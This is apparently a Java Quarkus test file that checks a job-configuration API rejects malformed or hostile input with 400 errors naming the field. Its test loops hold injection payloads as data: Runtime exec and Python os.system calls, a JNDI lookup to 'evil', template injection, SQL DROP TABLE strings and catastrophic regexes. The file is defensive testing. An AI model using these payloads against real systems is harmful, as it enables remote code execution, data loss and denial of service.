package io.sfinbound.configapi.job;

import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;

import java.util.List;
import java.util.Map;

import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.sfinbound.configapi.support.Api;
import io.sfinbound.configapi.support.GreenMailTestResource;
import io.sfinbound.testing.KafkaTestResource;
import io.sfinbound.testing.PostgresTestResource;
import io.sfinbound.testing.SimulatorTestResource;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Job save validated with transform-core, the transformer's own compiler: the hostile corpus's former known bugs
 * (expressions, filters, catastrophic regexes, 1 MB mask, unsafe target attributes, fields outside the select list,
 * lenient schedules) are 400 problems naming the field.
 */
@QuarkusTest
@WithTestResource(value = KafkaTestResource.class)
@WithTestResource(value = PostgresTestResource.class, initArgs = @ResourceArg(name = "database", value = "sfinbound_config_test"))
@WithTestResource(value = GreenMailTestResource.class)
@WithTestResource(value = SimulatorTestResource.class)
class JobSaveValidationTest {

    long projectId;
    long connectionId;

    @BeforeEach
    void setUp() {
        if (projectId == 0) {
            connectionId = Api.createConnection(Api.passwordConnection("https://acme.my.salesforce.com"));
            projectId = Api.createProject("save validation " + System.nanoTime());
        }
    }

    Map<String, Object> job(String key, Object value) {
        Map<String, Object> body = Api.job(projectId, connectionId, "validated");
        body.put(key, value);
        return body;
    }

    void rejected(Map<String, Object> body, String field) {
        Api.admin().body(body).post("/api/jobs").then().statusCode(400).contentType("application/problem+json")
                .body("errors.field", hasItem(field));
    }

    static Map<String, Object> mapping(Map<String, Object> transformation) {
        return Map.of("sourceField", "Status", "targetAttribute", "status", "dataType", "TEXT", "transformation", transformation);
    }

    @Test
    void shouldTypeCheckExpressionsWithLineAndColumn() {
        Api.admin().body(job("fieldMappings", List.of(
                        Map.of("sourceField", "Status", "targetAttribute", "a", "dataType", "TEXT"),
                        Map.of("sourceField", "Body", "targetAttribute", "b", "dataType", "VERBATIM"),
                        mapping(Map.of("type", "EXPRESSION", "expression", "UPPER(Status) &\n  UPPER(1)")))))
                .post("/api/jobs").then().statusCode(400).contentType("application/problem+json")
                .body("errors[0].field", equalTo("fieldMappings[2].transformation.expression"))
                .body("errors[0].message", containsString("UPPER argument 1 expects a text"))
                .body("errors[0].line", equalTo(2)).body("errors[0].column", equalTo(9));
        for (String e : List.of("1 +", "java.lang.Runtime.getRuntime().exec('id')", "${jndi:ldap://evil/x}", "#{7*7}",
                "__import__('os').system('id')", "Status ==", "unknownFn(Status)", "Status.matches('(a+)+$')", "\u0000")) {
            rejected(job("fieldMappings", List.of(mapping(Map.of("type", "EXPRESSION", "expression", e)))),
                    "fieldMappings[0].transformation.expression");
        }
        Api.admin().body(job("filter", Map.of("expression", "status = 'Completed'", "mode", "INCLUDE")))
                .post("/api/jobs").then().statusCode(400)
                .body("errors[0].field", equalTo("filter.expression"))
                .body("errors[0].message", containsString("did you mean 'Status'"));
        for (String e : List.of("Status ==", "'; DROP TABLE x", "(a+)+$ ~~ Status", "${jndi:ldap://x}", "", "LEN(Status)")) {
            rejected(job("filter", Map.of("expression", e, "mode", "INCLUDE")), "filter.expression");
        }
        Api.createJob(job("filter", Map.of("expression", "Status = 'Completed' AND NOT ISBLANK(Body)", "mode", "EXCLUDE")));
    }

    @Test
    void shouldRejectCatastrophicRegexesWithTheRuleLine() {
        for (String regex : List.of("(a+)+$", "(a|aa)+$", "(.*a){20}", "([a-zA-Z]+)*$", "(x+x+)+y", "^(\\w+\\s?)*$")) {
            Api.admin().body(job("redaction", Map.of("redactionRules", "# ok\nORD-\\d{6}\n" + regex)))
                    .post("/api/jobs").then().statusCode(400)
                    .body("errors[0].field", equalTo("redaction.redactionRules")).body("errors[0].line", equalTo(3));
            rejected(job("fieldMappings", List.of(mapping(Map.of("type", "REGEX", "regex", regex, "replacement", "x")))),
                    "fieldMappings[0].transformation.regex");
        }
        Api.admin().body(job("redaction", Map.of("substitutionRules", "ok : fine\n\"unclosed : x")))
                .post("/api/jobs").then().statusCode(400)
                .body("errors[0].field", equalTo("redaction.substitutionRules")).body("errors[0].line", equalTo(2));
    }

    @Test
    void shouldCheckFieldsNamesAndSizes() {
        Api.admin().body(job("fieldMappings", List.of(Map.of("sourceField", "status", "targetAttribute", "s", "dataType", "TEXT"),
                        Map.of("sourceField", "Nope__c", "targetAttribute", "nope", "dataType", "TEXT"))))
                .post("/api/jobs").then().statusCode(400)
                .body("errors.find { it.field == 'fieldMappings[0].sourceField' }.message", containsString("did you mean 'Status'"))
                .body("errors.find { it.field == 'fieldMappings[1].sourceField' }.message", containsString("not in the SOQL select list"));
        rejected(job("fieldMappings", List.of(Map.of("sourceField", "Status", "targetAttribute", "x'; DROP TABLE documents; --",
                "dataType", "TEXT"))), "fieldMappings[0].targetAttribute");
        rejected(job("redaction", Map.of("mask", "M".repeat(1024 * 1024))), "redaction.mask");
        rejected(job("redaction", Map.of("redactionRules", "x\n".repeat(200_000))), "redaction.redactionRules");
    }

    @Test
    void shouldRejectLenientSchedules() {
        rejected(job("schedule", Map.of("type", "DAILY", "startTime", "08:30", "timezone", "")), "schedule.timezone");
        rejected(job("schedule", Map.of("type", "DAILY", "startTime", "08:30", "timezone", "Europe/Berlin\u0000")), "schedule.timezone");
        rejected(job("schedule", Map.of("type", "ONE_TIME", "startDate", "+999999999-12-31", "startTime", "08:00", "timezone", "UTC")),
                "schedule.startDate");
        Map<String, Object> noType = new java.util.HashMap<>();
        noType.put("type", null);
        noType.put("timezone", "UTC");
        rejected(job("schedule", noType), "schedule.type");
        rejected(job("schedule", Map.of("type", "DAILY", "timezone", "UTC")), "schedule.startTime");
    }
}
